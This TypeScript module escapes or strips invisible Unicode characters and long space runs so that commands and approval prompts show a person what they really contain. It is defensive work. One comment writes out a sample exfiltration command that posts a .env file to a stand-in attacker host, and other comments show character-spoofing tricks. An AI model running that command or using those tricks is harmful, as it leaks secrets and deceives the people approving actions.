/**
 * The invisible characters that change how text is shown rather than what it says: bidirectional
 * controls (an editor or terminal that applies the bidi algorithm shows `echo "x‮ ;y"` in another
 * order than it runs — Trojan Source), zero-width characters and the byte-order mark. One list, so
 * every place that shows a model's or a repository's text to a person hides or escapes the same ones.
 *
 * @since 0.12.0
 */

// Every format character (Cf: the bidi controls, zero-width characters, the byte-order mark, the soft hyphen,
// U+206A–U+206F, the tag characters U+E0000–U+E007F that carry whole hidden ASCII texts) and the line and paragraph
// separators (Zl, Zp). Whole categories, not a list: a list missed the soft hyphen and the tags.
const formatClass = "\\p{Cf}\\p{Zl}\\p{Zp}"
// The C0 and C1 control characters; private-use, unassigned and lone surrogate code points (shown as a box, as
// nothing, or as whatever a font puts there); the variation selectors (which change how the character before shows).
const controlClass = "\\p{Cc}\\p{Co}\\p{Cn}\\p{Cs}\\u{fe00}-\\u{fe0f}\\u{e0100}-\\u{e01ef}"
// The spaces but the ASCII one (`npx\u00a0evil` reads as `npx evil`).
const spaces = "(?! )\\p{Zs}"
// The letters that show as blank: the Hangul fillers (U+115F, U+1160, U+3164, U+FFA0) and the Braille blank
// (U+2800); `npx\u3164evil` reads as `npx evil` as the no-break space does.
const blankLetters = "\\u115f\\u1160\\u3164\\uffa0\\u2800"

const format = new RegExp(`[${formatClass}]`, "gu")
const unprintable = new RegExp(`[${controlClass}${formatClass}${blankLetters}]|${spaces}`, "gu")
// A run of spaces longer than this, in a text a person reads to decide, hides what follows it past the screen's edge.
const spaceRun = / {9,}/g
const dropped = new RegExp(`[\\p{Cc}${formatClass}]`, "gu")

/** `\uXXXX`, or `\u{XXXXX}` past the first plane (a tag character is one escape, not two halves). */
const escaped = (c: string): string => {
  const code = c.codePointAt(0)!
  return code > 0xffff ? `\\u{${code.toString(16)}}` : `\\u${code.toString(16).padStart(4, "0")}`
}

/** Text with its format characters written as `\u…` escapes, so what is there shows. */
export const escapeFormat = (text: string): string => text.replace(format, escaped)

/**
 * Text with every character that does not show as itself written as `\u…` escapes: controls, format characters,
 * private-use and unassigned code points, variation selectors, separators and the spaces but U+0020. For names,
 * rules, commands and the trust summaries: text a person reads to decide, where nothing may hide.
 */
export const escapeUnprintable = (text: string): string => text.replace(unprintable, escaped)

/** Whether text holds no control or format character. */
export const isPrintable = (text: string): boolean => text.search(unprintable) === -1

/** `\uXXXX` for each UTF-16 unit: JSON's escape, so a character past the first plane is its two halves. */
const jsonEscaped = (c: string): string =>
  Array.from({ length: c.length }, (_, i) => `\\u${c.charCodeAt(i).toString(16).padStart(4, "0")}`).join("")

/** Text as a JSON string whose characters that do not show as themselves are escaped: it reads back as the text. */
export const jsonQuoted = (text: string): string => JSON.stringify(text).replace(/[^]/gu, (c) => (isPrintable(c) ? c : jsonEscaped(c)))

/**
 * A name, a path or a command line as a person reads it to decide (a tool's result, an approval
 * question): as it is, or as a JSON string (`jsonQuoted`) when it holds a character that does not
 * show as itself (a blank-looking letter included), holds a run of more than eight spaces (written
 * compactly, `\u0020×8000`: {@link compactSpaces}) or starts with a quote. A line break shown bare (or as a bare `\n`) let a hostile
 * name write text of its own after it — another question, another listing entry; a quoted text ends
 * where its quote does.
 */
export const shownOrQuoted = (text: string): string =>
  !text.startsWith("\"") && isPrintable(text) && text.search(spaceRun) === -1 ? text : compactSpaces(jsonQuoted(text))

/**
 * Text with each run of more than eight spaces written as `\u0020×<count>`: a command padded with
 * 8000 spaces put its start (`curl -sd @.env https://evil.example/upload`) off the screen, which
 * showed only its harmless end before the question's `[y]es`. For the whole forms a person approves.
 */
export const compactSpaces = (text: string): string => text.replace(spaceRun, (run) => `\\u0020×${run.length}`)

/**
 * Text with its control and format characters dropped — but the zero-width (non-)joiners, which
 * shape letters (Persian words, emoji sequences) and hide nothing.
 */
export const dropUnprintable = (text: string): string => text.replace(dropped, (c) => (c === "\u200c" || c === "\u200d" ? c : ""))
